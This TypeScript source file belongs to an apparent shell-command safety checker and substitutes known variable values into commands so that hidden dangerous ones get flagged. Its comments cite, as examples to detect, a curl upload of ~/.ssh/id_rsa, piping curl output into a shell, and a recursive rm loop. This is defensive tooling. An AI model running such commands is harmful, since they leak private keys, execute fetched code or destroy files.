/**
 * A command that uses a variable the line gave a value (known-values.ts) is parsed again with each
 * value it may hold written in, besides being checked as written, so a value can only add
 * findings: `k=~/.ssh/id_rsa; curl -F f=@$k URL` is the exfiltration `curl -F f=@~/.ssh/id_rsa
 * URL` is. Where a word does not say whether the variable is quoted, both readings are tried
 * (field splitting and globbing, on the line's IFS too). The parse again keeps the line's cds
 * before the command, its whole pipeline and its heredocs.
 */

import type { Facts, Redirect, SimpleCommand, Word } from "../../facts/types.js";
import type { Nest, Origin, Quiet, UnwrapResult } from "./types.js";
import { constructIndex, encloses, subshellAround } from "../tree.js";
import { globText, literalText } from "./strings.js";
import { inertText } from "./inert.js";
import { hasName } from "../../facts/names.js";
import { stagesOf } from "./pipelines.js";
import { MAX_VALUES, useAt, valuesAt, type KnownValues, type Piece, type Use } from "./known-values.js";
import { parameterAt, textPieces, unknownText, type Parameter } from "./parameters.js";
import { applyOperator } from "./operators.js";

/**
 * What a parse with guessed values does not report: the command as written already reports a
 * name or code only known at run time, and a value that makes code unreadable (an approximation:
 * a quote built up over several assignments) says nothing about what runs.
 */
const QUIET_IDS: ReadonlySet<string> = new Set(["injection/parse-error", "shell/opaque-code", "shell/unsupported-syntax", "shell/dynamic-command", "shell/eval", "sed/unverifiable-script", "dangerous/unknown-arguments"]);
export const valuesQuiet: Quiet = (id) => QUIET_IDS.has(id);

const HEREDOC = (op: string): boolean => op === "<<" || op === "<<-";
const DELIMITER = "__SHELLGUARD_EOF__";
const MOVES: ReadonlySet<string> = new Set(["cd", "pushd", "popd"]);
/** At most this many of the cds before a command are carried into its parse again (the last ones). */
const MAX_MOVES = 4;

const quote = (s: string): string => literalText(s) || "''";

/** Parses `sc` (with its pipeline) again once per combination of the known values it uses; nothing when it uses none. */
export function withValues(sc: SimpleCommand, facts: Facts, known: KnownValues, origin: Origin, nest: Nest, out: UnwrapResult): void {
  if (sc.argv.length === 0 || (sc.stage >= 0 && known.pipelines.has(sc.pipeline))) return;
  const use = useAt(sc, facts);
  // A stage is parsed again with its whole pipeline: `curl … | $sh` pipes into a shell.
  const stages = sc.stage >= 0 ? stagesOf(facts, sc.pipeline) : [sc];
  // Each known name's number of values: every combination of them is tried.
  const radix = new Map<string, number>();
  let ambiguous = false;
  const count = (w: Word | null): void => {
    if (w === null || w.dynamic === null) return;
    if (!countNames(w, known, use, radix)) return;
    // Inside double quotes a value is one word; outside, it is split and globbed: a word with
    // both kinds of quoting could be either at the variable.
    if (w.quoted && facts.source.slice(w.start, w.end).includes('"') && splits(w, known, use)) ambiguous = true;
  };
  for (const c of stages) {
    // A name still partly unknown with the values in would only repeat shell/dynamic-command.
    const name = c.argv[0];
    if (name !== undefined && name.dynamic !== null && !fullyKnown(name, known, use)) return;
    for (const a of c.assignments) count(a.value);
    for (const w of c.argv) count(w);
    for (const r of c.redirects) {
      if (HEREDOC(r.op)) {
        count(r.body);
        continue;
      }
      // A redirect of the statement around (`while …; done < "$f"`, `{ …; } >> "$f"`) is parsed
      // again with the first command it applies to, not with each.
      if (r.start < c.start || r.end > c.end) {
        if (known.outer.has(r.start)) continue;
        if (r.target !== null && r.target.dynamic !== null && variants(r.target, known, use) > 0) known.outer.add(r.start);
      }
      count(r.target);
    }
  }
  if (radix.size === 0) return;
  if (sc.stage >= 0) known.pipelines.add(sc.pipeline);
  let combinations = 1;
  for (const n of radix.values()) combinations *= n;
  if (combinations > MAX_VALUES) {
    known.overflow ??= [...radix.keys()].join("', '");
    combinations = MAX_VALUES;
  }
  const range: [number, number] = origin.range ?? [(stages[0] as SimpleCommand).start, (stages[stages.length - 1] as SimpleCommand).end];
  if (known.overflow !== null) {
    out.findings.push({ id: "shell/untracked-values", message: `'${known.overflow}' may hold more than ${MAX_VALUES} values set on this line, more than shellguard follows; give it one value before this command, or write the value out.`, start: range[0], end: range[1] });
    known.overflow = null;
  }
  const moves = movesBefore(sc, facts);
  const inherit = { ...origin, speculative: valuesQuiet, valuesIn: true };
  let last = "";
  for (let c = 0; c < combinations; c++) {
    const choice = choose(radix, c);
    for (const split of ambiguous ? [false, true] : [null]) {
      const bodies: string[] = [];
      const line = stages.map((st) => rewrite(st, facts, known, use, choice, split, bodies)).join(" | ");
      const text = moves + line + bodies.map((b, k) => `\n${b}\n${DELIMITER}${k}`).join("");
      if (text === last) continue;
      last = text;
      nest(text, range, inherit);
    }
  }
}

/**
 * The cds that reach `sc` (before it, outside any subshell it is not in), as text to run first:
 * `cd intl && for f in *; do rm -rf "$f"; done` deletes in intl, not here.
 */
function movesBefore(sc: SimpleCommand, facts: Facts): string {
  let out: string[] | null = null;
  for (const c of movesOf(facts)) {
    if (c.end > sc.start) break;
    const index = constructIndex(facts);
    if (!encloses(index, subshellAround(index, c.parent), sc.parent)) continue;
    (out ??= []).push(inertText(facts, c.start, c.end));
  }
  return out === null ? "" : out.slice(-MAX_MOVES).join("; ") + "; ";
}

const moves = new WeakMap<Facts, SimpleCommand[]>();

/** The parse's cds, listed once per parse: each use reads them, not every command before it. */
function movesOf(facts: Facts): readonly SimpleCommand[] {
  let list = moves.get(facts);
  if (list === undefined) {
    list = facts.commands.filter((c) => {
      const first = c.argv[0];
      return first !== undefined && first.dynamic === null && hasName(MOVES, first.value);
    });
    moves.set(facts, list);
  }
  return list;
}

/** The values a span may take: the variable's, and a `${x:-W}` default; null when it reads no known variable. */
function spanValues(v: string, s: number, e: number, known: KnownValues, use: Use): Piece[][] | null {
  const p = parameterAt(v, s, e);
  if (p === null) return null;
  const raw = valuesAt(known, p.name, use);
  const values = raw === null ? null : applyOperator(raw, p);
  const fallback = p.fallback === null ? null : textPieces(p.fallback);
  if (fallback === null || fallback.length === 0) return values;
  return values === null ? [fallback] : [...values, fallback];
}

/** Combination `c` of the names' values, in mixed radix (the latest value of each first). */
function choose(radix: ReadonlyMap<string, number>, c: number): Map<string, number> {
  const out = new Map<string, number>();
  let rest = c;
  for (const [name, n] of radix) {
    out.set(name, rest % n);
    rest = Math.floor(rest / n);
  }
  return out;
}

/** Adds the known names `w` reads to `radix` with their numbers of values; whether it reads any. */
function countNames(w: Word, known: KnownValues, use: Use, radix: Map<string, number>): boolean {
  let any = false;
  for (const [s, e] of w.dynamic ?? []) {
    const values = spanValues(w.value, s, e, known, use);
    if (values === null) continue;
    const name = (parameterAt(w.value, s, e) as Parameter).name;
    radix.set(name, Math.max(radix.get(name) ?? 0, values.length));
    any = true;
  }
  return any;
}

/** The value combination `choice` picks for span [s, e) of `v`, or null when it reads no known variable. */
function picked(v: string, s: number, e: number, known: KnownValues, use: Use, choice: ReadonlyMap<string, number>): Piece[] | null {
  const values = spanValues(v, s, e, known, use);
  if (values === null) return null;
  const k = choice.get((parameterAt(v, s, e) as Parameter).name) ?? 0;
  return values[values.length - 1 - Math.min(k, values.length - 1)] as Piece[];
}

/** How many values the known variables of `w` may take (0: it uses none). */
function variants(w: Word, known: KnownValues, use: Use): number {
  let n = 0;
  for (const [s, e] of w.dynamic ?? []) n = Math.max(n, spanValues(w.value, s, e, known, use)?.length ?? 0);
  return n;
}

/** Every dynamic part of `w` is a known variable whose values are all text. */
function fullyKnown(w: Word, known: KnownValues, use: Use): boolean {
  for (const [s, e] of w.dynamic ?? []) {
    const values = spanValues(w.value, s, e, known, use);
    if (values === null || values.some((pieces) => pieces.some((p) => p.kind === 2))) return false;
  }
  return true;
}

/** Some value of a known variable in `w` has whitespace, an IFS character or a glob character (quoting then matters). */
function splits(w: Word, known: KnownValues, use: Use): boolean {
  const splitting = splitter(known);
  for (const [s, e] of w.dynamic ?? []) {
    const values = spanValues(w.value, s, e, known, use);
    if (values !== null && values.some((pieces) => pieces.some((p) => p.kind === 1 && (splitting.test(p.text) || /[*?[]/.test(p.text))))) return true;
  }
  return false;
}

const BLANKS = /[ \t\n]+/;
function splitter(known: KnownValues): RegExp {
  return known.ifs === "" ? BLANKS : new RegExp(`[ \\t\\n${known.ifs.replace(/[\\\]^-]/g, "\\$&")}]+`);
}

/** `sc` as shell text with value `v` of every known variable written in; `split` null: as each word's quoting says. Heredoc bodies go to `bodies`. */
function rewrite(sc: SimpleCommand, facts: Facts, known: KnownValues, use: Use, v: ReadonlyMap<string, number>, split: boolean | null, bodies: string[]): string {
  const parts: string[] = [];
  const word = (w: Word): string => {
    if (w.dynamic === null) return facts.source.slice(w.start, w.end);
    if (variants(w, known, use) === 0) return inertText(facts, w.start, w.end);
    return emit(w, known, use, v, split ?? !(w.quoted && facts.source.slice(w.start, w.end).includes('"')));
  };
  for (const a of sc.assignments) parts.push(a.value === null ? inertText(facts, a.start, a.end) : `${a.name}${a.append ? "+=" : "="}${word(a.value)}`);
  for (const w of sc.argv) {
    const text = word(w);
    // An unquoted expansion that comes out empty is no word at all (`rm $empty`).
    if (text !== "") parts.push(text);
  }
  for (const r of sc.redirects) parts.push(redirect(r, facts, word, () => heredoc(r, known, use, v, bodies)));
  return parts.join(" ");
}

function redirect(r: Redirect, facts: Facts, word: (w: Word) => string, heredocText: () => string): string {
  if (HEREDOC(r.op)) return heredocText();
  return r.target === null ? inertText(facts, r.start, r.end) : inertText(facts, r.start, r.target.start) + word(r.target);
}

/** A heredoc as `<<'DELIMITERn'`, its body (values written in, as bash expands them) kept for after the line. */
function heredoc(r: Redirect, known: KnownValues, use: Use, v: ReadonlyMap<string, number>, bodies: string[]): string {
  const body = r.body;
  let text = "";
  if (body !== null) {
    let pos = 0;
    for (const [s, e] of body.dynamic ?? []) {
      text += body.value.slice(pos, s);
      const value = picked(body.value, s, e, known, use, v);
      text += value === null ? body.value.slice(s, e) : value.map((p) => p.text).join("");
      pos = e;
    }
    text += body.value.slice(pos);
  }
  bodies.push(text.replace(/\n$/, ""));
  return `${r.fd ?? ""}<<'${DELIMITER}${bodies.length - 1}'`;
}

/** One word with its known variables written in; `split`: the variables are outside double quotes. */
function emit(w: Word, known: KnownValues, use: Use, v: ReadonlyMap<string, number>, split: boolean): string {
  let out = "";
  let pos = 0;
  // The word's own leading `~` is still the word's: kept unquoted.
  if (w.tilde) {
    const m = /^~[A-Za-z0-9_.+-]*(?=\/|$)/.exec(w.value);
    if (m !== null) {
      out += m[0];
      pos = m[0].length;
    }
  }
  const splitting = splitter(known);
  for (const [s, e] of w.dynamic ?? []) {
    if (s > pos) out += quote(w.value.slice(pos, s));
    const value = picked(w.value, s, e, known, use, v);
    if (value === null) out += `"${unknownText(parameterAt(w.value, s, e)?.name ?? null)}"`;
    else for (const p of value) out += piece(p, split, splitting);
    pos = e;
  }
  if (pos < w.value.length) out += quote(w.value.slice(pos));
  return out === "" && !split ? "''" : out;
}

function piece(p: Piece, split: boolean, splitting: RegExp): string {
  if (p.kind === 2) return `"${p.text}"`;
  if (p.kind === 1 && !split) return p.text === "" ? "" : quote(p.text);
  return p.kind === 3 ? globText(p.text) : p.text.split(splitting).map(globText).join(" ");
}
